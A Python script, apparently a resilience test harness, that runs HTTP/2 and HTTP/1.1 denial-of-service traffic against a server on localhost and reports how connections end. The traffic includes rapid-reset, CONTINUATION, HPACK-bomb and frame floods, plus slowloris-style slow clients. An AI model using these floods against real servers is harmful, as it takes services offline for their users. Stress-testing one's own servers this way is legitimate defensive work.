"""Clients that try to cost others their service.

    attack.py PORT_HTTP PORT_HTTPS SECONDS KIND HOST…
    attack.py kinds

Opens connections of a kind, each for the next of the hosts. They send frames or bytes as fast as
they are taken, or as slowly as they can. One that was ended is followed by a new one until SECONDS
have passed. Writes how the connections ended, how often, and after what time (median).
"""

import asyncio
import contextvars
import random
import socket
import ssl
import struct
import sys
import time
from collections import defaultdict

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(5, 10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
host = contextvars.ContextVar("host")
FLOOD_BYTES = 64 << 10
# Connections of floods at one time, and of slow clients.
FLOODING = 8
SLOW = 500


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value, first=b"\x00"):
    return first + string(name) + string(value)


def string(text):
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    head, length = b"\x7f", length - 127
    while length > 127:
        head, length = head + bytes([length & 127 | 128]), length >> 7
    return head + bytes([length]) + text


def head(method=b"\x82", path=b"\x84"):
    return method + b"\x86" + path + b"\x41" + string(host.get().encode())


POST = b"\x83"


def repeated(*frames):
    """The same frames as often as fit."""
    one = b"".join(frames)
    return one * max(1, FLOOD_BYTES // len(one))


def streams(of_stream):
    """Frames for one stream after another."""
    at = 1
    while at < 1 << 31:
        batch = []
        for _ in range(100):
            batch.append(of_stream(at))
            at += 2
        yield b"".join(batch)


def endless(frames, first=b""):
    yield first
    while True:
        yield frames


def request(stream, flags=END_STREAM | END_HEADERS, block=None):
    return frame(HEADERS, flags, stream, head() if block is None else block)


def upload(stream=1):
    return request(stream, END_HEADERS, head(POST, b"\x04" + string(b"/upload")))


def hpack_bomb():
    """4,000 bytes in the dynamic table, and one byte for each further use of them."""
    large = literal(b"x-large", b"x" * 3900, b"\x40")
    yield request(1, block=head() + large)
    yield from streams(lambda at: request(at + 2, block=head() + b"\xbe" * 8000))


def hpack_sizes():
    yield from streams(lambda at: request(at, block=b"\x20\x3f\xe1\x1f" * 2000 + head()))


def many_fields():
    fields = b"".join(literal(b"x-%d" % at, b"y") for at in range(700))
    yield from streams(lambda at: request(at, block=head() + fields))


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack("!I", code))


def window(stream, more):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", more))


def depends(stream, on):
    return frame(PRIORITY, 0, stream, struct.pack("!IB", on, 16))


def passwords():
    """A wrong password in each request."""
    def one(at):
        password = b"Basic " + bytes(random.choices(b"abcdefgh", k=12))
        return request(at, block=head() + literal(b"authorization", password))

    yield from streams(one)


FLOODS = {
    "SETTINGS": lambda: endless(repeated(frame(SETTINGS))),
    "SETTINGS, 100 values": lambda: endless(
        repeated(frame(SETTINGS, payload=b"\x00\x04\x00\x00\xff\xff" * 100))
    ),
    "PING": lambda: endless(repeated(frame(PING, payload=b"12345678"))),
    "PING, answers": lambda: endless(repeated(frame(PING, 1, payload=b"12345678"))),
    "PRIORITY": lambda: endless(repeated(depends(3, 0))),
    "PRIORITY beside an upload": lambda: endless(repeated(depends(3, 0)), upload()),
    "WINDOW_UPDATE": lambda: endless(repeated(window(0, 1))),
    "WINDOW_UPDATE of a stream": lambda: endless(repeated(window(1, 1)), upload()),
    "unknown frames": lambda: endless(repeated(frame(0xFE))),
    "unknown frames, large": lambda: endless(repeated(frame(0xFE, payload=bytes(16000)))),
    "GOAWAY": lambda: endless(repeated(frame(GOAWAY, payload=bytes(8)))),
    "DATA, empty": lambda: endless(repeated(frame(DATA, 0, 1)), upload()),
    "DATA, padding only": lambda: endless(
        repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))), upload()
    ),
    "rapid reset": lambda: streams(lambda at: request(at) + reset(at)),
    "rapid reset, uploads": lambda: streams(lambda at: upload(at) + reset(at)),
    "made to reset by WINDOW_UPDATE 0": lambda: streams(lambda at: request(at) + window(at, 0)),
    "made to reset by a full window": lambda: streams(
        lambda at: request(at) + window(at, (1 << 31) - 1)
    ),
    "made to reset by DATA after the end": lambda: streams(
        lambda at: request(at) + frame(DATA, 0, at, b"x")
    ),
    "made to reset by its own PRIORITY": lambda: streams(
        lambda at: request(at) + depends(at, at)
    ),
    "made to reset by a wrong length": lambda: streams(
        lambda at: request(at, END_HEADERS, head(POST) + literal(b"content-length", b"5"))
        + frame(DATA, END_STREAM, at, b"x")
    ),
    "CONTINUATION": lambda: endless(
        repeated(frame(CONTINUATION, 0, 1, literal(b"a", b"b"))), request(1, 0)
    ),
    "CONTINUATION, empty": lambda: endless(repeated(frame(CONTINUATION, 0, 1)), request(1, 0)),
    "CONTINUATION, large": lambda: endless(
        repeated(frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 15000))), request(1, 0)
    ),
    "HPACK, one large field 8,000 times": hpack_bomb,
    "HPACK, sizes of the table": hpack_sizes,
    "HPACK, 700 fields": many_fields,
    "requests": lambda: streams(request),
    "wrong passwords": passwords,
}


async def flood(kind, ending, port_http, port_https):
    """One connection that sends what it can, and reads what comes until it is ended."""
    reader, writer = await connect(port_https, "h2")
    reading = asyncio.create_task(read_frames(reader, ending))
    try:
        writer.write(PREFACE + frame(SETTINGS) + window(0, (1 << 31) - 65536 - 1))
        for batch in FLOODS[kind]():
            writer.write(batch)
            await writer.drain()
            # Neither of the two lets others run while the socket takes everything.
            await asyncio.sleep(0)
            if reading.done():
                break
        await reading
    except (ConnectionError, ssl.SSLError):
        # What it was told before it was cut off.
        await asyncio.wait([reading], timeout=1)
    finally:
        reading.cancel()
        writer.transport.abort()


async def read_frames(reader, ending):
    try:
        while True:
            header = await reader.readexactly(9)
            length = int.from_bytes(header[:3], "big")
            payload = await reader.readexactly(length)
            if header[3] == GOAWAY:
                ending[0] = f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
    except (OSError, asyncio.IncompleteReadError, ssl.SSLError):
        return


async def connect(port, protocol=None):
    if protocol is None:
        return await asyncio.open_connection("127.0.0.1", port)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname=host.get())


async def read_answer(reader, ending):
    try:
        if answer := await reader.read(12):
            ending[0] = f"answered {answer[9:].decode('latin-1')}"
        while await reader.read(1 << 16):
            pass
    except (OSError, ssl.SSLError):
        return


async def trickle(ending, port, protocol, first, piece=b""):
    """Sends a little each second, and reads what comes."""
    reader, writer = await connect(port, protocol)
    read = read_frames if protocol == "h2" else read_answer
    reading = asyncio.create_task(read(reader, ending))
    try:
        writer.write(first)
        while not reading.done():
            await asyncio.wait([reading], timeout=1)
            writer.write(piece)
            await writer.drain()
    finally:
        reading.cancel()
        writer.transport.abort()


async def sip(port, first):
    """Reads a little each second."""
    loop = asyncio.get_running_loop()
    with socket.socket() as stream:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stream.setblocking(False)
        await loop.sock_connect(stream, ("127.0.0.1", port))
        await loop.sock_sendall(stream, first)
        while await loop.sock_recv(stream, 1024):
            await asyncio.sleep(1)


def slow_head(ending, http, https):
    first = f"GET / HTTP/1.1\r\nhost: {host.get()}\r\nx: ".encode()
    return trickle(ending, http, None, first, b"x")


def slow_head_http2(ending, http, https):
    first = PREFACE + frame(SETTINGS) + frame(HEADERS, END_STREAM, 1, head())
    return trickle(ending, https, "h2", first)


def slow_body(ending, http, https):
    head = f"POST /upload HTTP/1.1\r\nhost: {host.get()}\r\ncontent-length: 100000\r\n\r\n"
    return trickle(ending, http, None, head.encode(), b"x")


def slow_body_http2(ending, http, https):
    first = PREFACE + frame(SETTINGS) + upload()
    return trickle(ending, https, "h2", first, frame(DATA, 0, 1, b"x"))


def slow_reader(ending, http, https):
    first = f"GET /large HTTP/1.1\r\nhost: {host.get()}\r\n\r\n".encode()
    return sip(http, first)


def slow_reader_http2(ending, http, https, streams=1):
    """Nothing of some large answers each."""
    block = head(path=b"\x04" + string(b"/large"))
    asks = b"".join(request(2 * at + 1, block=block) for at in range(streams))
    no_window = frame(SETTINGS, payload=b"\x00\x04\x00\x00\x00\x00")
    return trickle(ending, https, "h2", PREFACE + no_window + asks)


def slow_streams(ending, http, https):
    return slow_reader_http2(ending, http, https, 10)


def no_handshake(ending, http, https):
    return trickle(ending, https, None, b"\x16")


SLOWS = {
    "500 slow heads": slow_head,
    "500 slow heads, HTTP/2": slow_head_http2,
    "500 slow bodies": slow_body,
    "500 slow bodies, HTTP/2": slow_body_http2,
    "500 slow readers": slow_reader,
    "500 that read nothing, HTTP/2": slow_reader_http2,
    "500 that read nothing, 10 streams each": slow_streams,
    "500 handshakes": no_handshake,
}


async def again_and_again(kind, until, endings, http, https, of_host):
    host.set(of_host)
    while time.monotonic() < until:
        begun, ending = time.monotonic(), ["closed"]
        of_kind = SLOWS.get(kind, lambda *to: flood(kind, *to))
        try:
            await asyncio.wait_for(of_kind(ending, http, https), until - begun)
        except asyncio.TimeoutError:
            ending[0] = "still open"
        except (OSError, ssl.SSLError) as error:
            ending[0] = type(error).__name__ if ending[0] == "closed" else ending[0]
        endings[ending[0]].append(time.monotonic() - begun)
        if ending[0] not in ("still open", "closed") and not ending[0].startswith("GOAWAY"):
            await asyncio.sleep(0.01)


async def main(http, https, seconds, kind, hosts):
    endings = defaultdict(list)
    until = time.monotonic() + seconds
    clients = SLOW if kind in SLOWS else FLOODING
    await asyncio.gather(
        *(
            again_and_again(kind, until, endings, http, https, hosts[at % len(hosts)])
            for at in range(clients)
        )
    )
    parts = []
    for ending, times in sorted(endings.items(), key=lambda item: -len(item[1])):
        parts.append(f"{len(times)} {ending} ({sorted(times)[len(times) // 2]:.2f} s)")
    print(", ".join(parts))


if sys.argv[1] == "kinds":
    print("\n".join([*FLOODS, *SLOWS]))
else:
    http, https, seconds, kind = sys.argv[1:5]
    asyncio.run(main(int(http), int(https), float(seconds), kind, sys.argv[5:]))
